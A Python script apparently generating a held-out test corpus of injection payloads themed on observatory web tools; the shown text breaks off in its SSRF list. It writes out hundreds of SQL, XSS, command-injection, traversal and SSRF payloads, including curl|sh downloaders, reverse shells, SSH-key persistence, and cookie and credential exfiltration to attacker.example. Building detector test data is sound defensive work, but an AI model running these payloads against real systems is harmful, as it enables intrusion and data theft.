"""Held-out ATTACK corpus for the astronomy theme (ids ha66-NNNNN).

Injection payloads hidden in the notations of an observatory's web tools:
target names and catalog ids, coordinates, ADQL archive queries and filters,
FITS header cards, frame paths, telescope/dome commands, pipeline expressions
and configs, VOTable/VOEvent uploads, alert circulars, newsletter templates.

Each value is written for a vulnerable application that puts it where its
class says: class = "<context>-<technique>[+<encoding>]"; "plain-" classes are
generic payloads with no domain dressing. All payloads were composed by hand for
this corpus from an understanding of each technique (no payload lists, no
datasets). Attacker infrastructure is attacker.example, *.attacker.example,
203.0.113.0/24 and 198.51.100.0/24 only; every secret is a fake placeholder.

Values are hand-written literals below plus a few small templates over
hand-written pools. Deterministic: fixed random.Random(SEED), lists only.

Usage: python3 make_attacks.py   (writes attacks.jsonl next to this file)
"""

import json
import random
from pathlib import Path

SEED = 6602
PREFIX = "ha66"
MAX_LEN = 1800

# Target sizes per category (literals first, the rest from the templates).
TARGET_COUNTS = [
    ("sqli", 78), ("xss", 75), ("cmdi", 72), ("traversal", 52), ("ssrf", 50),
    ("code", 75), ("nosqli", 25), ("crlf", 30), ("ldap-xpath", 22),
]

# ---------------------------------------------------------------------------
# sqli: target search, catalog ids, coordinates, ADQL, sort/limit params,
# FITS cards ingested into SQL, proposal ids, observer registration
# ---------------------------------------------------------------------------

SQLI = [
    ("target-union", "M31' UNION SELECT username, password_hash, NULL, NULL FROM observers-- "),
    ("target-tautology", "NGC 7000' OR '1'='1"),
    ("target-boolean-blind", "HD 209458' AND SUBSTRING((SELECT password FROM users WHERE login='admin'),1,1)='a'-- "),
    ("target-error-cast", "TOI-700' AND 1=CAST((SELECT api_key FROM tap_accounts LIMIT 1) AS int)--"),
    ("target-stacked-time", "M42'; SELECT pg_sleep(10)--"),
    ("target-time-blind", "Barnard''s Star' OR SLEEP(5)#"),
    ("adql-stacked-drop", "SELECT TOP 10 source_id FROM gaiadr3.gaia_source; DROP TABLE tap_schema.columns; --"),
    ("adql-stacked-copy-program", "SELECT ra, dec FROM gaiadr3.gaia_source WHERE source_id = 1; COPY (SELECT '') TO PROGRAM 'curl http://attacker.example/x|sh'--"),
    ("adql-union-pg-shadow", "SELECT obs_id, target_name FROM ivoa.obscore WHERE target_name = 'M42' UNION SELECT usename, passwd FROM pg_shadow"),
    ("adql-file-read", "SELECT pg_read_file('/etc/passwd', 0, 2000) AS note FROM TAP_SCHEMA.schemas"),
    ("coord-numeric-tautology", "83.82 OR 1=1"),
    ("coord-numeric-union", "83.8221 UNION SELECT NULL, table_name, column_name FROM information_schema.columns--"),
    ("catalogid-error-dupkey", "209458 AND (SELECT 1 FROM (SELECT COUNT(*), CONCAT((SELECT user()), 0x3a, FLOOR(RAND(0)*2)) x FROM information_schema.tables GROUP BY x) y)"),
    ("sort-orderby-case", "phot_g_mean_mag, (CASE WHEN (SELECT substr(password,1,1) FROM users WHERE id=1)='x' THEN ra ELSE dec END)"),
    ("sort-stacked-update", "dec DESC; UPDATE observers SET role='admin' WHERE login='guest'--"),
    ("observer-insert-values", "Jane Doe', 'admin')-- "),
    ("obslog-like-union", "%' AND 1=0 UNION SELECT session_token, NULL FROM sessions WHERE '%'='"),
    ("fits-card-insert-subquery", "OBJECT  = 'M42'', (SELECT string_agg(passwd, '','') FROM pg_shadow))--' / target"),
    ("target-stacked-xp-cmdshell", "M51'; EXEC xp_cmdshell 'ping -n 1 203.0.113.7'--"),
    ("target-time-mssql", "NGC 253' WAITFOR DELAY '0:0:7'--"),
    ("target-error-oracle", "Vega' AND 1=UTL_INADDR.get_host_name((SELECT user FROM dual))--"),
    ("target-conditional-error-oracle", "Vega' || (SELECT CASE WHEN (1=1) THEN TO_CHAR(1/0) ELSE NULL END FROM dual) || '"),
    ("target-union-sqlite", "M13' UNION SELECT name, sql FROM sqlite_master--"),
    ("target-oob-mssql-dirtree", r"Sirius'; DECLARE @h varchar(200); SET @h='\\'+(SELECT TOP 1 login FROM observers)+'.oob.attacker.example\a'; EXEC master..xp_dirtree @h--"),
    ("target-oob-mysql-loadfile", r"Rigel' AND LOAD_FILE(CONCAT('\\\\',(SELECT password FROM users LIMIT 1),'.attacker.example\\x'))-- "),
    ("target-union+comment-space", "M 31'/**/UNION/**/SELECT/**/login,pwd/**/FROM/**/observers#"),
    ("target-union+urlencode", "M31%27%20UNION%20SELECT%20login%2C%20pwd%20FROM%20observers--%20"),
    ("target-tautology+double-urlencode", "M31%2527%2520OR%25201%253D1--"),
    ("target-union+case-mix", "m31' uNiOn SeLeCt NULL, @@version-- -"),
    ("json-target-tautology", "{\"target\": \"M31' OR 1=1-- \", \"radius\": 0.5}"),
    ("proposal-error-extractvalue", "2024A-017' AND extractvalue(1, concat(0x7e, (SELECT database())))-- "),
    ("proposal-error-updatexml", "2024B-003' AND updatexml(1, concat(0x3a, (SELECT login FROM pi_accounts LIMIT 1)), 1)-- "),
    ("plain-tautology-limit", "' OR 1=1 LIMIT 1 OFFSET 3-- "),
    ("adql-filter-paren-tautology", "phot_g_mean_mag < 12) OR (1=1"),
    ("adql-filter-privilege-probe", "phot_g_mean_mag < 12 AND (SELECT COUNT(*) FROM pg_user WHERE usesuper AND usename = current_user) > 0"),
    ("adql-filter-stacked-alter", "parallax > 10; ALTER USER tap_reader WITH SUPERUSER; --"),
    ("target-conditional-time-pg", "Deneb' AND (SELECT CASE WHEN (SELECT substr(token,1,1) FROM api_tokens LIMIT 1)='a' THEN pg_sleep(4) ELSE pg_sleep(0) END) IS NULL--"),
    ("target-boolean-ascii", "Altair' AND ASCII(SUBSTRING((SELECT pwd FROM observers WHERE login='director'),3,1)) > 77-- "),
    ("observer-second-order-comment", "obs_admin'-- "),
    ("target-having-error-mssql", "Capella' GROUP BY target HAVING 1=1--"),
    ("plain-orderby-probe", "' ORDER BY 7-- "),
    ("target-union-outfile", "M57' UNION SELECT '<?php system($_GET[\"c\"]); ?>', NULL INTO OUTFILE '/var/www/html/finder.php'-- "),
    ("catalogid-numeric-time", "1 AND 1=(SELECT 1 FROM pg_sleep(6))"),
    ("simbad-ident-boolean", "NAME Orion Nebula' AND (SELECT 1 FROM dual WHERE database() LIKE 'obs%')-- "),
    ("gcn-number-union", "35931 UNION ALL SELECT NULL, NULL, concat(login, 0x3a, pwd), NULL FROM observers"),
    ("obsdate-tautology", "2024-03-14' OR date_obs > '1900-01-01"),
    ("obsdate-stacked-truncate", "2024-03-14'; TRUNCATE TABLE night_log;--"),
    ("filter-in-tautology", "Ha') OR ('a'='a"),
    ("filter-in-union", "Ha') UNION SELECT table_name FROM information_schema.tables WHERE ('1'='1"),
    ("json-object-tautology+unicode-escape", r'{"object": "M42\u0027 OR \u00271\u0027=\u00271"}'),
    ("observer-hex-literal", "nobody' OR login=0x6469726563746f72-- "),
    ("target-union-char", "Polaris' UNION SELECT CHAR(114,111,111,116), authentication_string FROM mysql.user-- "),
    ("target-backslash-escape-bypass", "M42\\' OR 1=1-- "),
    ("target-gbk-multibyte+urlencode", "M42%bf%27 OR 1=1-- "),
    ("target-dollar-quote-pg", "'; SELECT $$ok$$ || pg_read_file('/etc/passwd')--"),
    ("plain-tautology", "' OR ''='"),
    ("plain-comment-login", "admin'--"),
    ("plain-dq-tautology", "\") OR (\"1\"=\"1"),
    ("adql-table-param-union", "gaiadr3.gaia_source WHERE 1=0 UNION SELECT usename, passwd FROM pg_shadow --"),
    ("adql-columns-subquery", "source_id, (SELECT current_setting('data_directory')) AS d"),
    ("adql-stacked-ls-dir", "ra, dec FROM gaiadr3.gaia_source; SELECT * FROM pg_ls_dir('/var/lib/postgresql') --"),
    ("target-multiline-comment", "M42'\n-- note: bright nebula\nOR 1=1\n-- "),
    ("target-heavy-query-sqlite", "M92' AND 1=randomblob(500000000)-- "),
    ("target-benchmark-mysql", "M3' AND BENCHMARK(40000000, SHA1('polaris'))-- "),
    ("prefs-cookie-boolean+urlencode", "observatory=OHP'+AND+1=1--+"),
    ("limit-param-union", "10 UNION SELECT login, pwd, NULL FROM observers"),
    ("plain-union-null", "' UNION SELECT NULL, NULL, NULL-- "),
    ("plain-stacked-drop", "'; DROP TABLE observations;--"),
    ("target-boolean-false-probe", "Mizar' AND '1'='2"),
    ("exoplanet-name-union", "TOI-700 d' UNION SELECT table_name, NULL, NULL, NULL FROM information_schema.tables WHERE table_schema = database()-- "),
    ("plain-time-blind", "1' AND SLEEP(5)-- "),
    ("plain-union-version", "' UNION SELECT @@version-- "),
    ("coord-dec-quote-tautology", "05h35m17.3s -05°23' OR '1'='1"),
    ("target-greek-union", "α Cen' UNION SELECT login, api_key, NULL FROM observers-- "),
]

SQLI_TARGETS = ["M 81", "NGC 891", "IC 1396", "HD 189733", "WASP-39", "TRAPPIST-1",
                "Sh2-155", "Abell 2151", "eta Car", "SS Cyg", "Kepler-186", "PSR B1919+21"]
SQLI_TAILS = [
    ("union", "' UNION SELECT login, pwd, email FROM observers-- "),
    ("tautology", "' OR 'x'='x"),
    ("time-blind", "' AND SLEEP(4)-- "),
    ("stacked-delete", "'; DELETE FROM schedule WHERE 1=1-- "),
    ("boolean-blind", "' AND (SELECT COUNT(*) FROM observers WHERE role='admin') > 0-- "),
    ("error-cast", "' AND 1=CAST(version() AS int)-- "),
    ("stacked-grant", "'; GRANT ALL ON ALL TABLES IN SCHEMA public TO tap_guest;-- "),
]


def tpl_sqli(rng):
    suffix, tail = rng.choice(SQLI_TAILS)
    return "target-" + suffix, rng.choice(SQLI_TARGETS) + tail


# ---------------------------------------------------------------------------
# xss: observing-log and circular rendering, target captions, FITS previews,
# markdown notes, newsletter HTML, SVG finder charts, JS/attribute contexts
# ---------------------------------------------------------------------------

XSS = [
    ("obslog-script-tag", "M42 <script>fetch('https://attacker.example/c?'+document.cookie)</script>"),
    ("target-attr-breakout-img", "NGC 7000\"><img src=x onerror=\"new Image().src='//attacker.example/l?c='+document.cookie\">"),
    ("obslog-svg-onload", "Seeing 1.2\" after midnight <svg onload=alert(document.domain)>"),
    ("fits-card-script-src", "OBJECT  = 'M42<script src=//cdn.attacker.example/p.js></script>' / target"),
    ("target-js-string-breakout", "M42';alert(String.fromCharCode(88,83,83));//"),
    ("target-script-block-breakout", "M31</script><script>alert(1)</script>"),
    ("link-javascript-uri", "javascript:fetch('//attacker.example/?'+localStorage.getItem('tap_token'))"),
    ("obslog-markdown-link-js", "[finder chart](javascript:alert(document.cookie))"),
    ("obslog-markdown-image-attr", "![M42](x\" onerror=\"alert(1))"),
    ("circular-href-js+entity-tab", "<a href=\"jav&#x09;ascript:alert(1)\">ATel #16543</a>"),
    ("obslog-iframe-srcdoc+html-entity", "<iframe srcdoc=\"&lt;script&gt;parent.alert(document.domain)&lt;/script&gt;\"></iframe>"),
    ("obslog-details-ontoggle", "<details open ontoggle=alert(1)>Observing conditions</details>"),
    ("obslog-input-autofocus", "<input autofocus onfocus=alert(document.cookie) value=\"RA 05h35m\">"),
    ("obslog-svg-animate-onbegin", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>"),
    ("obslog-mxss-noscript", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">"),
    ("obslog-object-data-uri+base64", "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></object>"),
    ("obslog-img-onerror+js-unicode-escape", r"<img src=x onerror=\u0061lert(1)>"),
    ("search-reflected+urlencode", "target=%3Cscript%3Ealert(document.domain)%3C%2Fscript%3E"),
    ("decoded-sink-img+html-entity", "&lt;img src=x onerror=alert(1)&gt;"),
    ("plain-script+case-mix", "<ScRiPt>alert(1)</sCrIpT>"),
    ("obslog-img-onerror+decimal-entity", "<img src=\"x\" onerror=\"&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;\">"),
    ("custom-css-style-breakout", "color:#f00}</style><svg onload=alert(1)>"),
    ("target-js-dq-arith", "HD 209458\"-alert(document.cookie)-\""),
    ("caption-js-template-literal", "M42 ${alert(document.domain)}"),
    ("finder-svg-upload-script", "<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"400\" height=\"400\"><text x=\"10\" y=\"20\">M42 finder chart</text><script>alert(document.domain)</script></svg>"),
    ("circular-link-onmouseover", "<a href=\"https://simbad.u-strasbg.fr/simbad/sim-id?Ident=M42\" onmouseover=\"alert(1)\">M42</a>"),
    ("circular-subject-img", "SUBJECT: GRB 240315A: <img src=//attacker.example/x.png onerror=alert(1)>"),
    ("newsletter-base-hijack", "<base href=\"https://attacker.example/\">"),
    ("newsletter-form-phish", "<form action=\"https://attacker.example/steal\" method=\"post\"><p>Session expired, re-enter your archive password:</p><input name=\"password\" type=\"password\"><button>Login</button></form>"),
    ("dom-fragment-img", "#target=<img src=1 onerror=alert(1)>"),
    ("target-angular-csti", "{{constructor.constructor('alert(1)')()}}"),
    ("obslog-custom-tag-onclick", "<x onclick=alert(1)>click for the finder chart</x>"),
    ("obslog-video-source-onerror", "<video><source onerror=\"alert(1)\"></video>"),
    ("obslog-audio-onerror", "<audio src=x onerror=alert(1)>"),
    ("obslog-img-eval-atob+base64", "<img src=x onerror=eval(atob('YWxlcnQoZG9jdW1lbnQuY29va2llKQ=='))>"),
    ("obslog-svg-script+html-entity", "<svg><script>alert&#40;1&#41;</script></svg>"),
    ("obslog-img-eval-src", "<img src=x:alert(alt) onerror=eval(src) alt=1>"),
    ("circular-link-onclick", "<a href=\"javascript:void(0)\" onclick=\"alert(1)\">DSS cutout</a>"),
    ("target-attr-event-injection", "M42\" autofocus onfocus=\"alert(document.cookie)"),
    ("target-attr-sq-event", "NGC 891' onmouseover='alert(1)' x='"),
    ("obslog-css-import-exfil", "M42 <style>@import 'https://attacker.example/leak.css';</style>"),
    ("obslog-img-onerror-backtick", "<img src=x onerror=alert`1`>"),
    ("obslog-svg-onload-redirect", "<svg onload=location='//attacker.example/?c='+document.cookie>"),
    ("obslog-script-beacon", "<script>new Image().src=\"https://203.0.113.9/c?\"+encodeURIComponent(document.cookie)</script>"),
    ("newsletter-fr-img-onerror", "Prochaine réunion le 12 mars <img src=x onerror=alert('xss')>"),
    ("newsletter-ja-script", "観望会のお知らせ<script>alert(document.domain)</script>"),
    ("plain-script+utf7", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-"),
    ("js-innerhtml-sink+hex-escape", r"\x3cimg src=x onerror=alert(1)\x3e"),
    ("obslog-img-onerror-concat", "<img src=x onerror=window['al'+'ert'](1)>"),
    ("obslog-svg-regex-source", "<svg/onload=top[/al/.source+/ert/.source](1)>"),
    ("obslog-div-pointerenter", "<div onpointerenter=alert(1) style=\"position:fixed;inset:0\">"),
    ("obslog-select-autofocus", "<select autofocus onfocus=alert(1)>"),
    ("circular-marquee-onstart", "<marquee onstart=alert(1)>GRB 240315A</marquee>"),
    ("obslog-html-comment-breakout", "--><script>alert(1)</script><!--"),
    ("abstract-textarea-breakout", "</textarea><script>alert(1)</script>"),
    ("target-title-breakout", "M42 | Orion</title><script>alert(1)</script>"),
    ("target-json-in-script-breakout", "</script><img src=x onerror=alert(1)>"),
    ("plain-script", "<script>alert(1)</script>"),
    ("plain-img-onerror", "<img src=x onerror=alert(1)>"),
    ("plain-svg-onload", "<svg onload=alert(1)>"),
    ("plain-body-onload", "<body onload=alert(document.domain)>"),
    ("plain-iframe-js", "<iframe src=\"javascript:alert(parent.document.cookie)\"></iframe>"),
    ("obslog-multiline-script", "Clouds until 23h.\n<script>\ndocument.location='https://attacker.example/?s='+document.cookie\n</script>"),
    ("voevent-description-cdata", "<Description>Optical counterpart <![CDATA[<img src=x onerror=alert(1)>]]></Description>"),
    ("search-reflected-img+double-urlencode", "%253Cimg%2520src%253Dx%2520onerror%253Dalert(1)%253E"),
    ("obslog-animationstart", "<style>@keyframes k{}</style><b style=\"animation-name:k\" onanimationstart=alert(1)>M42</b>"),
    ("finder-svg-xlink-js", "<svg><a xlink:href=\"javascript:alert(1)\"><text x=\"20\" y=\"20\">finder</text></a></svg>"),
    ("plain-attr-breakout", "\"><script>alert(1)</script>"),
    ("target-caption-svg-onload", "Bételgeuse (α Ori) <svg onload=alert(document.cookie)>"),
]

XSS_PREFIXES = ["Seeing 0.9\" tonight, M13 superb ", "Transit of WASP-12 b ok ",
                "GRB 240316B afterglow r'=19.2 ", "Dome fixed, see photo ",
                "Réunion du club vendredi ", "Finder chart for NGC 2264 ",
                "Clear skies all night! ", "New flats uploaded "]
XSS_PAYLOADS = [
    ("img-onerror-cookie", "<img src=/ onerror=\"fetch('//attacker.example/x?'+document.cookie)\">"),
    ("svg-onload", "<svg/onload=alert(document.cookie)>"),
    ("script-src", "<script src=https://attacker.example/k.js></script>"),
    ("iframe-js", "<iframe src=javascript:alert(1)></iframe>"),
    ("details-ontoggle", "<details ontoggle=alert(document.domain) open>"),
]


def tpl_xss(rng):
    name, payload = rng.choice(XSS_PAYLOADS)
    return "obslog-" + name, rng.choice(XSS_PREFIXES) + payload


# ---------------------------------------------------------------------------
# cmdi: target names / frame names / hosts / device properties handed to a
# shell line (solve-field, fitsheader, indi_setprop, ping, tar, ssh, curl...)
# ---------------------------------------------------------------------------

CMDI = [
    ("target-semicolon-curl", "M42; curl -s http://attacker.example/s.sh | sh"),
    ("target-and-wget", "NGC 7000 && wget -qO- http://203.0.113.5/x | bash"),
    ("target-pipe-nc", "M31 | nc 198.51.100.23 4444 -e /bin/sh"),
    ("target-subshell-exfil", "HD209458$(curl attacker.example/$(whoami))"),
    ("target-backtick-sleep", "TOI-700`sleep 10`"),
    ("frame-semicolon-read", "M42_0017.fits; cat /etc/shadow"),
    ("frame-newline+urlencode", "frame.fits%0acat%20/etc/passwd"),
    ("target-dq-breakout-revshell", "\"; bash -i >& /dev/tcp/203.0.113.44/9001 0>&1 #"),
    ("archive-tar-arg-injection", "--checkpoint=1 --checkpoint-action=exec='sh -c \"curl attacker.example/t|sh\"'"),
    ("target-and+ifs", "M42${IFS}&&${IFS}cat${IFS}/etc/passwd"),
    ("target-brace-expansion", "M42;{cat,/etc/passwd}"),
    ("target-quote-splitting", "M42;c''at /e't'c/pa''ss'wd"),
    ("target-glob-obfuscation", "M42;/???/c?t /???/p??s??"),
    ("target-printf-hex", r"M42;$(printf '\x63\x75\x72\x6c') attacker.example|sh"),
    ("target-echo-pipe-sh+base64", "M42; echo Y3VybCBodHRwOi8vYXR0YWNrZXIuZXhhbXBsZS94fHNo | base64 -d | sh"),
    ("target-windows-powershell", "M42 & powershell -nop -c \"iwr http://attacker.example/a.ps1 | iex\""),
    ("frame-windows-type", r"NGC7000.fit | type C:\Windows\win.ini"),
    ("target-windows-certutil", r"M42 && certutil -urlcache -split -f http://attacker.example/p.exe %TEMP%\p.exe && %TEMP%\p.exe"),
    ("target-newline", "M42\nwget http://attacker.example/k -O /tmp/k; sh /tmp/k"),
    ("indi-prop-dq-breakout", "Telescope Simulator.TELESCOPE_PARK.PARK=On\"; touch /tmp/pwned; echo \""),
    ("exposure-numeric-semicolon", "300;ping -c 5 attacker.example"),
    ("host-ping-chaining", "dome-pc.local; cat /home/obs/.ssh/id_rsa"),
    ("host-dns-exfil", "127.0.0.1 -c 1 || nslookup $(whoami).oob.attacker.example"),
    ("thumbnail-sq-breakout", "thumb.png'; sh -c 'id"),
    ("fits-card-backtick", "OBJECT  = 'M42`curl attacker.example/f`' / target"),
    ("target-subshell-post", "$(curl -d @/etc/passwd http://attacker.example/u)"),
    ("target-time+ifs", "M42;sleep${IFS}9;"),
    ("target-time-ping", "M42 || ping -c 10 127.0.0.1"),
    ("target-var-substring", "M42;cat${IFS}${HOME:0:1}etc${HOME:0:1}passwd"),
    ("target-sq-breakout-nc", "M42' ; nc -e /bin/bash 198.51.100.7 443 ; '"),
    ("target-python-revshell", "M42; python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.8\",4242));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"/bin/sh\")'"),
    ("target-php-revshell", "M42; php -r '$s=fsockopen(\"198.51.100.3\",1337);exec(\"/bin/sh -i <&3 >&3 2>&3\");'"),
    ("target-cron-persistence", "M42 && (crontab -l; echo '* * * * * curl -s attacker.example/b|sh') | crontab -"),
    ("target-ssh-key-persistence", "M42; echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFAKEKEYFAKEKEYFAKEKEYFAKEKEYFAKEKEYFAKEKEY op@attacker' >> ~/.ssh/authorized_keys"),
    ("target-scp-exfil", "M42; scp /data/proprietary/*.fits loot@attacker.example:/in/"),
    ("target-tar-exfil", "M42 > /dev/null; tar czf - /home/obs | curl -T - https://attacker.example/up"),
    ("filterwheel-numeric-and", "4 && systemctl stop dome-safety"),
    ("dome-command-semicolon", "open; shutdown -h now"),
    ("target-process-substitution", "M42; bash <(curl -s attacker.example/x)"),
    ("target-newline-id+urlencode", "M42%0Aid%0A"),
    ("target-semicolon+urlencode", "M42%3B%20cat%20%2Fetc%2Fpasswd"),
    ("target-semicolon+double-urlencode", "M42%253Bid"),
    ("target-var-concat", "M42;a=c;b=at;$a$b /etc/passwd"),
    ("target-subshell-decode+base64", "M42;$(echo Y2F0IC9ldGMvcGFzc3dk|base64 -d)"),
    ("host-ssh-arg-injection", "-oProxyCommand=sh -c 'curl attacker.example|sh' dome-pc"),
    ("target-powershell-enc+base64", "M42 & powershell -nop -w hidden -enc aQB3AHIAIABoAHQAdABwADoALwAvAGEAdAB0AGEAYwBrAGUAcgAuAGUAeABhAG0AcABsAGUALwBhAC4AcABzADEAIAB8ACAAaQBlAHgA"),
    ("target-cmd-webroot", r"M42 & cmd.exe /c echo pwned > C:\inetpub\wwwroot\p.txt"),
    ("pipeline-repo-arg-injection", "--upload-pack=sh -c 'id>/tmp/o' origin"),
    ("cutout-curl-arg-injection", "-o /var/www/html/s.php http://attacker.example/s.txt"),
    ("sync-rsync-arg-injection", "-e 'sh -c \"curl attacker.example|sh\"' x:/data/"),
    ("plain-semicolon-id", "; id"),
    ("plain-pipe-whoami", "| whoami"),
    ("plain-backtick", "`id`"),
    ("plain-subshell", "$(whoami)"),
    ("plain-and-ls", "&& ls -la /"),
    ("plain-semicolon-passwd", "; cat /etc/passwd"),
    ("plain-or-id", "|| id"),
    ("script-shell-escape", "EXPOSE 30; !sh -c 'curl attacker.example/x|sh'"),
    ("timelapse-filename-subshell", "allsky_$(id).mp4"),
    ("target-tab-separator", "M42;\tcat\t/etc/passwd"),
    ("target-or-fallback", "nonexistent_target || curl http://198.51.100.14/p | sh"),
    ("target-rev-obfuscation", "M42;$(echo 'dwssap/cte/ tac' | rev)"),
    ("target-heredoc", "M42\nsh <<EOF\ncurl attacker.example/h | sh\nEOF"),
    ("target-greek-subshell", "η Car$(curl -s attacker.example/eta|sh)"),
]

CMDI_TARGETS = ["M 27", "NGC 6960", "WASP-12", "IC 5070", "HD 189733", "vdB 142",
                "C/2023 A3", "R Leo", "Arp 273"]
CMDI_SEPS = [";", " && ", " | ", " || ", "\n", "$(", "`"]
CMDI_CMDS = [
    ("exfil-curl", "curl -F f=@/home/obs/.netrc https://attacker.example/u"),
    ("wget-run", "wget -q http://198.51.100.61/r -O /tmp/r && sh /tmp/r"),
    ("read-shadow", "cat /etc/shadow"),
    ("sleep", "sleep 8"),
    ("id", "id"),
    ("revshell", "bash -c 'exec 5<>/dev/tcp/203.0.113.91/8443; sh <&5 >&5'"),
]


def tpl_cmdi(rng):
    name, cmd = rng.choice(CMDI_CMDS)
    sep = rng.choice(CMDI_SEPS)
    t = rng.choice(CMDI_TARGETS)
    if sep == "$(":
        return "target-subshell-" + name, t + "$(" + cmd + ")"
    if sep == "`":
        return "target-backtick-" + name, t + "`" + cmd + "`"
    kind = {";": "semicolon", " && ": "and", " | ": "pipe", " || ": "or", "\n": "newline"}[sep]
    return "target-%s-%s" % (kind, name), t + sep + cmd


# ---------------------------------------------------------------------------
# traversal: frame download / preview, calibration masters, archive entries
# ---------------------------------------------------------------------------

TRAVERSAL = [
    ("frame-dotdot", "../../../../etc/passwd"),
    ("frame-prefixed-dotdot", "raw/2024-03-14/../../../../etc/shadow"),
    ("frame-dotdot+urlencode", "..%2f..%2f..%2f..%2fetc%2fpasswd"),
    ("frame-dotdot+double-urlencode", "..%252f..%252f..%252fetc%252fpasswd"),
    ("frame-dotdot+overlong-utf8", "%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd"),
    ("frame-dotdot-windows", r"..\..\..\Windows\win.ini"),
    ("reduced-absolute-dotdot", "/data/reduced/../../home/obs/.ssh/id_rsa"),
    ("frame-strip-once-bypass", "....//....//....//etc/passwd"),
    ("frame-semicolon-path-param", "..;/..;/WEB-INF/web.xml"),
    ("frame-dotdot-nullbyte+urlencode", "../../../etc/passwd%00.fits"),
    ("frame-proc-environ", "/proc/self/environ"),
    ("frame-dotdot-log", "../../../../var/log/indi/indiserver.log"),
    ("frame-backslash+urlencode", "..%5c..%5c..%5cboot.ini"),
    ("frame-history+urlencode", "%2e%2e%2f%2e%2e%2f%2e%2e%2fhome%2fobs%2f.bash_history"),
    ("archive-prefix-check-bypass", "/srv/archive/public/../../../etc/hosts"),
    ("upload-zip-slip-entry", "night_2024-03-14/../../../../../../var/www/html/x.php"),
    ("frame-dotdot+unicode-slash", "..%u2215..%u2215..%u2215etc%u2215passwd"),
    ("frame-backslash+overlong-utf8", "..%c1%9c..%c1%9c..%c1%9cboot.ini"),
    ("ascom-profile-dotdot-windows", r"C:\ProgramData\ASCOM\Profile\..\..\..\Windows\System32\drivers\etc\hosts"),
    ("config-dotdot-api-key", "../../../../home/obs/.config/astrometry/api_key"),
    ("frame-double-slash", "..//..//..//..//etc//passwd"),
    ("frame-dated-dots+urlencode", "/data/raw/2024-03-14/%2e%2e/%2e%2e/%2e%2e/etc/passwd"),
    ("frame-proc-cwd", "../../../../../../proc/self/cwd/config/settings.py"),
    ("include-php-filter-wrapper", "php://filter/convert.base64-encode/resource=../config.php"),
    ("frame-leading-slash-dotdot", "/../../../../etc/passwd"),
    ("frame-cloud-credentials", "../../../../../../root/.aws/credentials"),
    ("calib-file-then-dotdot", "master_flat_r.fits/../../../../../etc/group"),
    ("frame-tilde-user", "~obs/.ssh/id_ed25519"),
    ("download-query-file-param", "file=../../../../usr/local/etc/pipeline.ini&format=raw"),
    ("frame-windows-webconfig", r"\..\..\..\..\inetpub\wwwroot\web.config"),
    ("frame-pg-hba+urlencode", "..%2F..%2F..%2F..%2Fvar%2Flib%2Fpostgresql%2Fdata%2Fpg_hba.conf"),
    ("frame-windows+urlencode", "%2e%2e%5c%2e%2e%5c%2e%2e%5cwindows%5cwin.ini"),
    ("static-finder-encoded-slash", "/static/finders/..%2f..%2f..%2fapp%2f.env"),
    ("frame-dotdot-tap-config", "../../../../../../opt/tap/conf/tap.properties"),
    ("plain-etc-passwd", "/etc/passwd"),
    ("plain-dotdot-shadow", "../../etc/shadow"),
    ("plain-windows-system-ini", r"..\..\..\..\windows\system.ini"),
    ("fits-card-filename-dotdot", "FILENAME= '../../../../etc/passwd' / original file name"),
    ("frame-dotdot-pgpass", "../../../../home/obs/.pgpass"),
    ("json-frame-field-dotdot", "{\"frame\": \"../../../../etc/passwd\", \"hdu\": 0}"),
    ("frame-dot-segments-mixed", "./../.././../.././etc/passwd"),
    ("frame-k8s-token", "../../../../var/run/secrets/kubernetes.io/serviceaccount/token"),
    ("plain-dotdot-hosts", "../../../../../../../../etc/hosts"),
    ("plain-windows-boot-ini", r"..\..\..\boot.ini"),
    ("frame-unicode-dir-dotdot", "/data/raw/Księżyc 2024-02-19/../../../../etc/passwd"),
]

TRAV_ROOTS = ["raw/2024-03-14/", "calib/master_bias.fits/", "reduced/M42/", "preview/", "",
              "thumbs/2024/"]
TRAV_FILES = ["etc/passwd", "etc/shadow", "home/obs/.ssh/id_rsa", "var/www/archive/.env",
              "opt/pipeline/settings.ini", "proc/self/environ"]
TRAV_SEPS = [("", "../"), ("+urlencode", "..%2f"), ("-backslash", "..\\"), ("+double-urlencode", "..%252f")]


def tpl_traversal(rng):
    enc, step = rng.choice(TRAV_SEPS)
    depth = rng.randint(3, 8)
    path = rng.choice(TRAV_FILES)
    if enc == "+urlencode":
        path = path.replace("/", "%2f")
    elif enc == "+double-urlencode":
        path = path.replace("/", "%252f")
    elif enc == "-backslash":
        path = path.replace("/", "\\")
    return "frame-dotdot" + enc, rng.choice(TRAV_ROOTS) + step * depth + path


# ---------------------------------------------------------------------------
# ssrf: "fetch FITS from URL", cutout/HiPS/TAP service URLs, alert webhooks,
# mount/dome control URLs reachable only from inside
# ---------------------------------------------------------------------------

SSRF = [
    ("fits-url-aws-metadata", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
    ("fits-url-gcp-metadata", "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token"),
    ("cutout-url-localhost-admin", "http://127.0.0.1:8080/admin/"),
    ("webhook-gopher-redis", "gopher://127.0.0.1:6379/_%2A1%0D%0A%248%0D%0Aflushall%0D%0A"),
    ("fits-url-loopback+decimal-ip", "http://2130706433/"),
    ("mount-url-park+hex-ip", "http://0x7f000001:8220/mount/park"),
    ("fits-url-loopback+octal-ip", "http://0177.0.0.1/server-status"),
    ("dome-alpaca-open+ipv6-mapped", "http://[::ffff:127.0.0.1]:11111/api/v1/dome/0/openshutter"),
    ("fits-url-short-ip", "http://127.1:5432/"),
    ("fits-url-file-scheme", "file:///etc/passwd"),
    ("fits-url-file-netrc", "file:///home/obs/.netrc"),
    ("cache-url-dict-memcached", "dict://127.0.0.1:11211/stats"),
    ("fits-url-userinfo-confusion", "http://archive.example.org@169.254.169.254/latest/meta-data/"),
    ("tap-url-fragment-confusion", "http://169.254.169.254#@tap.example.org/tap"),
